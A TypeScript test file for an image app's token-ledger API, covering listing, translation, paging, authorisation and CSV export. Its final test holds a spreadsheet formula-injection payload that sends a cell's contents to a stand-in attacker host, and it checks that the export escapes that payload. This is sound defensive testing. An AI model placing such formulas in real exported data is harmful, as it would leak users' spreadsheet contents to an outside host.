import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import type { LedgerEntryView } from '@imagestudio/contracts';
import { createTestContext, type TestContext } from '../../test/harness';
import { verifiedUser, xsrfAgent } from '../../test/auth-helpers';
import { welcomeGrantKey } from '../auth';
import { applyEntryNow, ledgerSum } from '../ledger';
import type { LedgerEntryInput } from '../ledger/ledger.service';

let t: TestContext;
beforeAll(async () => {
  t = await createTestContext();
});
afterAll(() => t.close());

async function post(
  userId: string,
  entry: Omit<LedgerEntryInput, 'userId' | 'idempotencyKey'> & { idempotencyKey?: string },
) {
  await applyEntryNow(t.ctx.db, { userId, idempotencyKey: `test:${randomUUID()}`, ...entry });
}

describe('GET /api/user/ledger', () => {
  it('lists every kind newest first, with running balances that add up to the balance', async () => {
    const { agent, user } = await verifiedUser(t);
    const jobId = randomUUID();
    const depositId = randomUUID();
    await post(user.id, {
      deltaTenths: 25,
      kind: 'grant',
      idempotencyKey: welcomeGrantKey(user.id),
      reason: 'Welcome bonus',
    });
    await post(user.id, {
      deltaTenths: 500,
      kind: 'purchase',
      reason: 'Token pack: Starter',
      metadata: { deposit_id: depositId },
    });
    await post(user.id, { deltaTenths: -15, kind: 'spend', metadata: { job_id: jobId, tool: 'upscale' } });
    await post(user.id, { deltaTenths: 15, kind: 'refund', metadata: { job_id: jobId, tool: 'upscale' } });
    await post(user.id, {
      deltaTenths: -500,
      kind: 'reversal',
      reason: 'Payment refunded',
      metadata: { deposit_id: depositId },
    });
    await post(user.id, { deltaTenths: 3, kind: 'adjustment', reason: 'Goodwill' });

    const res = await agent.get('/api/user/ledger').expect(200);
    const items = res.body.payload.items as LedgerEntryView[];
    expect(res.body.payload).toMatchObject({ page: 1, per_page: 20, total: 7, last_page: 1 });
    expect(items.map((e) => [e.kind, e.amount, e.balance_after, e.description, e.job_id, e.deposit_id])).toEqual([
      ['adjustment', 0.3, 12.8, 'Goodwill', null, null],
      ['reversal', -50, 12.5, 'Payment refunded', null, depositId],
      ['refund', 1.5, 62.5, 'Refund: Upscaling', jobId, null],
      ['spend', -1.5, 61, 'Upscaling', jobId, null],
      ['purchase', 50, 62.5, 'Token pack: Starter', null, depositId],
      ['welcome', 2.5, 12.5, 'Welcome bonus', null, null],
      ['free', 10, 10, 'Free tokens', null, null],
    ]);
    expect(Number(items[0]!.id)).toBeGreaterThan(Number(items[1]!.id));
    expect(new Date(items[0]!.created_at).toISOString()).toBe(items[0]!.created_at);
    const sumTenths = items.reduce((sum, e) => sum + Math.round(e.amount * 10), 0);
    const profile = await agent.get('/api/user/profile').expect(200);
    expect(sumTenths / 10).toBe(profile.body.payload.balance);
    expect(await ledgerSum(t.ctx.db, user.id)).toBe(sumTenths);
  });

  it("describes entries in the reader's language; an operator's own reason stays as written", async () => {
    const { agent, user } = await verifiedUser(t);
    const jobId = randomUUID();
    await post(user.id, { deltaTenths: 500, kind: 'purchase', reason: 'Token pack: Starter' });
    await post(user.id, { deltaTenths: 20, kind: 'purchase', reason: 'Token purchase' });
    await post(user.id, { deltaTenths: -10, kind: 'spend', metadata: { job_id: jobId, tool: 'remove-background' } });
    await post(user.id, { deltaTenths: 10, kind: 'refund', metadata: { job_id: jobId, tool: 'remove-background' } });
    await post(user.id, { deltaTenths: 3, kind: 'adjustment', reason: 'Goodwill' });
    const german = (await agent.get('/api/user/ledger?lang_id=de').expect(200)).body.payload.items as LedgerEntryView[];
    expect(german.map((e) => e.description)).toEqual([
      'Goodwill',
      'Erstattung: Hintergrundentfernung',
      'Hintergrundentfernung',
      'Tokenkauf',
      'Tokenpaket: Starter',
      'Gratis-Tokens',
    ]);
    const byHeader = (await agent.get('/api/user/ledger').set('Accept-Language', 'de-DE,de;q=0.9').expect(200)).body
      .payload.items as LedgerEntryView[];
    expect(byHeader[3]!.description).toBe('Tokenkauf');
    const english = (await agent.get('/api/user/ledger?lang_id=en').expect(200)).body.payload
      .items as LedgerEntryView[];
    expect(english.map((e) => e.description)).toEqual([
      'Goodwill',
      'Refund: Background removal',
      'Background removal',
      'Token purchase',
      'Token pack: Starter',
      'Free tokens',
    ]);
  });

  it("pages by 20, shows only the caller's rows and keeps guests out", async () => {
    const { agent, user } = await verifiedUser(t);
    const other = await verifiedUser(t);
    for (let i = 0; i < 22; i += 1) await post(user.id, { deltaTenths: 1, kind: 'adjustment', reason: `step ${i}` });
    const first = (await agent.get('/api/user/ledger?page=1').expect(200)).body.payload;
    const second = (await agent.get('/api/user/ledger?page=2').expect(200)).body.payload;
    expect([first.items.length, second.items.length, first.total, first.last_page]).toEqual([20, 3, 23, 2]);
    expect(first.items[0].description).toBe('step 21');
    expect(second.items.at(-1).kind).toBe('free');
    expect((await agent.get('/api/user/ledger?page=abc').expect(200)).body.payload.page).toBe(1);
    const theirs = (await other.agent.get('/api/user/ledger').expect(200)).body.payload;
    expect(theirs.total).toBe(1);

    const guest = await xsrfAgent(t);
    expect((await guest.get('/api/user/ledger').expect(401)).body).toEqual({
      status: 'ERROR',
      code: 'unauthenticated',
      message: 'Unauthenticated.',
    });
    await guest.get('/api/user/ledger.csv').expect(401);
  });
});

describe('GET /api/user/ledger.csv', () => {
  it('streams the same entries as CSV with exact amounts', async () => {
    const { agent, user } = await verifiedUser(t);
    const jobId = randomUUID();
    await post(user.id, { deltaTenths: -25, kind: 'spend', metadata: { job_id: jobId, tool: 'generate' } });
    await post(user.id, { deltaTenths: 7, kind: 'adjustment', reason: 'Comma, "quoted" reason' });
    const res = await agent.get('/api/user/ledger.csv').buffer(true).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="token-activity.csv"');
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    const json = (await agent.get('/api/user/ledger').expect(200)).body.payload.items as LedgerEntryView[];
    expect(rows.map((r) => r.id)).toEqual(json.map((e) => e.id));
    expect(rows.map((r) => [r.kind, r.amount, r.balance_after, r.description, r.job_id, r.deposit_id])).toEqual([
      ['adjustment', '0.7', '8.2', 'Comma, "quoted" reason', '', ''],
      ['spend', '-2.5', '7.5', 'Image generation', jobId, ''],
      ['free', '10.0', '10.0', 'Free tokens', '', ''],
    ]);
  });

  it('opens operator-written reasons as text in a spreadsheet, amounts as numbers', async () => {
    const { agent, user } = await verifiedUser(t);
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    await post(user.id, { deltaTenths: -3, kind: 'adjustment', reason: formula });
    await post(user.id, { deltaTenths: 1, kind: 'adjustment', reason: '@SUM(1+1)' });
    const res = await agent.get('/api/user/ledger.csv').buffer(true).expect(200);
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(rows.slice(0, 2).map((r) => [r.amount, r.description])).toEqual([
      ['0.1', "'@SUM(1+1)"],
      ['-0.3', `'${formula}`],
    ]);
  });
});
